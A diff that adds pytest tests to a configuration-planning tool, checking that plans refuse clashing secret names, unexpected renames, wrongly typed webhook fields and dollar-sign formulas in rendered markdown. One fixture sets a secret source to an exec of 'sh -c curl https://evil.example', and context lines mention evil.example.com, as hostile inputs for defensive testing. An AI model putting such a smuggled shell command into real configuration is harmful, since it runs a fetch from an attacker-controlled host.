@@ -245,3 +245,59 @@ def test_a_file_beside_the_manifest_hides_nothing(engine):
 
     assert refuse_secrets(text.render_plan(plan)) == text.render_plan(plan)
     assert "evil.example.com" in text.render_plan(plan)
+
+
+def test_a_variable_that_isnt_ours_is_kept(engine):
+    (engine.folder / ".env").write_text("DISCORD_WEBHOOK_ID=987654321\n")
+    sink = "{envFile: .env, key: DISCORD}"
+
+    plan = engine.plan(f"{HEAD}webhooks: [{{url: '{A}', secret: {sink}}}]\n")
+
+    assert any("987654321" in refusal.message for refusal in plan.projects[0].refusals)
+
+
+def test_two_secrets_of_a_plan_file_keep_two_names_whatever_they_are_called(engine):
+    def same(project):
+        for action in project["actions"]:
+            action["sink"].update(key="PHOTON_PROJECT")
+
+    with pytest.raises(PlanRefused, match="another secret"):
+        check_plan(edited(engine.plan(hooks(A, B)), same), Reach())
+
+
+def test_a_rename_in_a_plan_file_names_the_live_project(engine):
+    live = only(engine).row
+    text = f"version: 1\nproject: {{name: staging, id: {live.id}}}\nusers: []\n"
+
+    def other(project):
+        project["actions"][0]["changes"][0].update(before="staging-old")
+
+    with pytest.raises(PlanRefused, match="staging-old"):
+        apply_saved(engine, edited(engine.plan(text), other))
+
+
+@pytest.mark.parametrize(
+    "spec",
+    [{"webhookUrl": None}, {"webhookUrl": 1}, {"webhookUrl": ["x"]}, {"webhookUrl": {"a": 1}}],
+)
+def test_a_field_of_another_type_is_no_bug(engine, spec):
+    plan = engine.plan(hooks(A))
+
+    with pytest.raises(PlanRefused):
+        check_plan(edited(plan, lambda p: p["actions"][0]["spec"].update(spec)), Reach())
+
+
+def test_a_project_is_created_under_the_name_that_is_shown(engine):
+    plan = engine.plan("version: 1\nproject: {name: new}\n")
+
+    with pytest.raises(PlanRefused):
+        check_plan(edited(plan, lambda p: p["actions"][0]["spec"].update(name="other")), Reach())
+
+
+def test_markdown_holds_no_formula(engine):
+    """GitHub and GitLab read what is between two dollars as one, and a formula can hide text."""
+    sink = "{exec: [sh, -c, 'curl https://evil.example', '$']}"
+    more = "failureNotificationEmail: '$x%@good.example'"
+    plan = engine.plan(f"{HEAD}webhooks: [{{url: '{A}', secret: {sink}, {more}}}]\n")
+
+    assert "$" not in markdown.render_plan(plan)
